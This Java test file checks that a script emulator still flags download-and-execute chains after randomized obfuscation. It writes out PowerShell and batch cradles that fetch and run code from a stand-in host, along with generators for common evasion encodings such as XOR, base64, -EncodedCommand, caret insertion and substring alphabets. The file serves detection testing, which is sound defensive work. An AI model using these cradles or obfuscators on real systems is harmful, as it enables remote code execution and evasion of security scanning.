package dev.peekaboo.emulation.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.function.BiFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.LongStream;

/** However a command is obfuscated, it shows the same chain. */
class CommandMutationProperties {
    private static final int ROUNDS = 2;
    private static final String CRADLE =
            "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://files.example/a')";
    private static final String LINE =
            "powershell -nop -c iex(irm http://files.example/a) & mshta http://files.example/b.hta";

    /** Each makes an equal PowerShell script of one. */
    private static final List<BiFunction<String, Random, String>> SCRIPT_MUTATIONS =
            List.of(
                    CommandMutationProperties::asCharacters,
                    CommandMutationProperties::asFormat,
                    CommandMutationProperties::asJoined,
                    CommandMutationProperties::asReplaced,
                    CommandMutationProperties::reversed,
                    CommandMutationProperties::asXor,
                    CommandMutationProperties::asBase64,
                    CommandMutationProperties::asEncodedCommand,
                    CommandMutationProperties::inBlock,
                    CommandMutationProperties::inFunction,
                    CommandMutationProperties::withNoise);

    /** Each makes an equal command file of one. */
    private static final List<BiFunction<String, Random, String>> FILE_MUTATIONS =
            List.of(
                    CommandMutationProperties::withCarets,
                    CommandMutationProperties::inOtherCase,
                    CommandMutationProperties::fromAlphabet,
                    CommandMutationProperties::fromPieces,
                    CommandMutationProperties::afterQuestions,
                    CommandMutationProperties::withNoiseLines);

    static LongStream seeds() {
        return LongStream.range(0, 50);
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void an_obfuscated_powershell_script_shows_the_same_chain(long seed) {
        Random random = new Random(seed);
        String script = withBackticks(CRADLE, random);
        for (int i = 0; i < ROUNDS; i++)
            script = any(SCRIPT_MUTATIONS, random).apply(script, random);

        EmulationReport report = Emulated.run(Language.POWERSHELL, script, "a.ps1");

        assertThat(Emulated.ids(report))
                .as("seed %d\n%s\n%s", seed, script, Emulated.told(report))
                .contains("runs_downloaded_code");
        assertThat(Traces.isBad(report.findings())).isTrue();
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void an_obfuscated_command_file_shows_the_same_chain(long seed) {
        Random random = new Random(seed);
        String file = any(FILE_MUTATIONS, random).apply(LINE, random);
        if (random.nextBoolean()) file = withNoiseLines(file, random);

        EmulationReport report = Emulated.run(Language.BATCH, "@echo off\r\n" + file, "a.bat");

        assertThat(Emulated.ids(report))
                .as("seed %d\n%s\n%s", seed, file, Emulated.told(report))
                .contains("runs_remote_script", "runs_downloaded_code");
        assertThat(Traces.isBad(report.findings())).isTrue();
    }

    private static BiFunction<String, Random, String> any(
            List<BiFunction<String, Random, String>> mutations, Random random) {
        return mutations.get(random.nextInt(mutations.size()));
    }

    private static String quoted(String text) {
        return "'" + text.replace("'", "''") + "'";
    }

    private static String numbers(String text, int key) {
        return text.chars().mapToObj(c -> String.valueOf(c ^ key)).collect(Collectors.joining(","));
    }

    private static List<String> pieces(String text, Random random) {
        List<String> pieces = new ArrayList<>();
        for (int at = 0; at < text.length(); ) {
            int end = Math.min(text.length(), at + 2 + random.nextInt(12));
            pieces.add(text.substring(at, end));
            at = end;
        }
        return pieces;
    }

    /** Before letters that mean nothing behind a backtick, and outside of texts. */
    private static String withBackticks(String script, Random random) {
        StringBuilder out = new StringBuilder();
        boolean isText = false;
        for (int i = 0; i < script.length(); i++) {
            char c = script.charAt(i);
            if (c == '\'') isText = !isText;
            boolean isInWord =
                    i > 0 && Character.isLetter(script.charAt(i - 1)) && "clmopsw".indexOf(c) >= 0;
            boolean isCommand = i < CRADLE.indexOf(' ');
            if (!isText && isInWord && isCommand && random.nextInt(3) == 0) out.append('`');
            out.append(c);
        }
        return out.toString();
    }

    private static String asCharacters(String script, Random random) {
        return random.nextBoolean()
                ? "iex(-join([char[]](" + numbers(script, 0) + ")))"
                : "$s='';foreach($c in @("
                        + numbers(script, 0)
                        + ")){$s+=[char]$c};& ('i'+'ex') $s";
    }

    private static String asXor(String script, Random random) {
        int key = 1 + random.nextInt(255);
        return "iex(-join((" + numbers(script, key) + ")|%{[char]($_ -bxor " + key + ")}))";
    }

    private static String asFormat(String script, Random random) {
        List<String> plain = pieces(script, random);
        List<Integer> order = new ArrayList<>(IntStream.range(0, plain.size()).boxed().toList());
        Collections.shuffle(order, random);
        String format =
                IntStream.range(0, plain.size())
                        .mapToObj(i -> "{" + order.indexOf(i) + "}")
                        .collect(Collectors.joining());
        String all = order.stream().map(i -> quoted(plain.get(i))).collect(Collectors.joining(","));
        return "iex (\"" + format + "\" -f " + all + ")";
    }

    private static String asJoined(String script, Random random) {
        String all =
                pieces(script, random).stream()
                        .map(CommandMutationProperties::quoted)
                        .collect(Collectors.joining(random.nextBoolean() ? "+" : " + "));
        return "$x=(" + all + ");Invoke-Expression $x";
    }

    private static String asReplaced(String script, Random random) {
        String noise = "qQ" + random.nextInt(100) + "Zz";
        String noisy = String.join(noise, pieces(script, random));
        return random.nextBoolean()
                ? "iex(" + quoted(noisy) + ".Replace('" + noise + "',''))"
                : "iex(" + quoted(noisy) + " -creplace '" + noise + "','')";
    }

    private static String reversed(String script, Random random) {
        String backwards = quoted(new StringBuilder(script).reverse().toString());
        return random.nextBoolean()
                ? "$r=" + backwards + ";iex($r[-1..-($r.Length)] -join '')"
                : "$a=" + backwards + ".ToCharArray();[Array]::Reverse($a);iex(-join $a)";
    }

    private static String asBase64(String script, Random random) {
        boolean isWide = random.nextBoolean();
        byte[] bytes = script.getBytes(isWide ? StandardCharsets.UTF_16LE : StandardCharsets.UTF_8);
        return "iex([Text.Encoding]::"
                + (isWide ? "Unicode" : "UTF8")
                + ".GetString([Convert]::FromBase64String('"
                + Base64.getEncoder().encodeToString(bytes)
                + "')))";
    }

    private static String asEncodedCommand(String script, Random random) {
        String flag = List.of("-e", "-enc", "-EncodedCommand", "/ec").get(random.nextInt(4));
        return "powershell -w 1 "
                + flag
                + " "
                + Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    private static String inBlock(String script, Random random) {
        return random.nextBoolean() ? "&{" + script + "}" : "try{" + script + "}catch{}";
    }

    private static String inFunction(String script, Random random) {
        String name = "Get-It" + random.nextInt(100);
        return "function " + name + "(){" + script + "}\n" + name;
    }

    private static String withNoise(String script, Random random) {
        return "# note "
                + random.nextInt()
                + "\n$n"
                + random.nextInt(100)
                + " = "
                + random.nextInt(1000)
                + " * 7\n<# more #>\n"
                + script;
    }

    private static String withCarets(String line, Random random) {
        return line.chars()
                .mapToObj(
                        c ->
                                Character.isLetter(c) && random.nextInt(4) == 0
                                        ? "^" + (char) c
                                        : String.valueOf((char) c))
                .collect(Collectors.joining());
    }

    private static String inOtherCase(String line, Random random) {
        return line.chars()
                .mapToObj(c -> (char) (random.nextBoolean() ? Character.toUpperCase(c) : c))
                .map(String::valueOf)
                .collect(Collectors.joining());
    }

    /** Each letter is cut out of a shuffled alphabet. */
    private static String fromAlphabet(String line, Random random) {
        List<Character> letters =
                new ArrayList<>(
                        "abcdefghijklmnopqrstuvwxyz".chars().mapToObj(c -> (char) c).toList());
        Collections.shuffle(letters, random);
        String alphabet = letters.stream().map(String::valueOf).collect(Collectors.joining());
        String cut =
                line.chars()
                        .mapToObj(
                                c ->
                                        alphabet.indexOf(c) < 0
                                                ? String.valueOf((char) c)
                                                : "%q:~" + alphabet.indexOf(c) + ",1%")
                        .collect(Collectors.joining());
        return "set q=" + alphabet + "\r\n" + cut;
    }

    private static String fromPieces(String line, Random random) {
        List<String> pieces = pieces(line.replace(" & ", "\r\n").lines().toList().get(0), random);
        StringBuilder file = new StringBuilder();
        StringBuilder use = new StringBuilder();
        for (int i = 0; i < pieces.size(); i++) {
            file.append("set \"v").append(i).append('=').append(pieces.get(i)).append("\"\r\n");
            use.append("%v").append(i).append('%');
        }
        return file.append(use) + "\r\n" + line.substring(line.indexOf("mshta"));
    }

    private static String afterQuestions(String line, Random random) {
        return "if not exist %TEMP%\\nothing" + random.nextInt(100) + " (\r\n" + line + "\r\n)";
    }

    private static String withNoiseLines(String file, Random random) {
        return ":: "
                + random.nextInt()
                + "\r\nrem mshta\r\nset /a n="
                + random.nextInt(100)
                + "*3\r\nping -n 2 127.0.0.1 >nul\r\n"
                + file;
    }
}
